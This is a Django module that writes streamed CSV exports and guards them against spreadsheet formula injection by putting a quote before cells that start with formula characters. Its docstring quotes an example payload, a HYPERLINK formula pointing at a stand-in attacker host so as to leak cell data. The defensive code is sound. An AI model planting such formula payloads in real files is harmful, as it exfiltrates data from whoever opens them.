"""The one CSV writer of every export: streamed, UTF-8 with a BOM (so spreadsheets read it), and
safe to open in a spreadsheet.

Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
`-` or `@` as a formula (and tab or CR are read as the start of one), so a CDR id such as
`=HYPERLINK("https://evil.example/?"&A1)` would leak data or run commands on the bookkeeper's
machine. Rule, cell by cell:

* numbers (`int`, `Decimal`; never `bool`) are written as numbers, so `-12.50` stays a
  negative amount a spreadsheet can sum;
* every other cell is text: when it starts with one of `= + - @ TAB CR LF`, a single quote is put
  in front (`'=HYPERLINK(...)`, `'-5`), which spreadsheets show as the text typed, and which a
  reader of the file can strip to get the value back.
"""
import csv as _csv
from decimal import Decimal

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def cell(value) -> object:
    """A value as it is written to the file: numbers as they are, text escaped."""
    if value is None:
        return ""
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Echo:
    def write(self, value):
        return value


def rows_to_lines(header, rows):
    """The lines of a CSV file (header first, with the BOM), produced one by one."""
    writer = _csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([cell(v) for v in header])
    for row in rows:
        yield writer.writerow([cell(v) for v in row])


def streaming_response(filename: str, header, rows) -> StreamingHttpResponse:
    """A streamed CSV download: rows are produced while the client reads (no list in memory)."""
    response = StreamingHttpResponse(rows_to_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
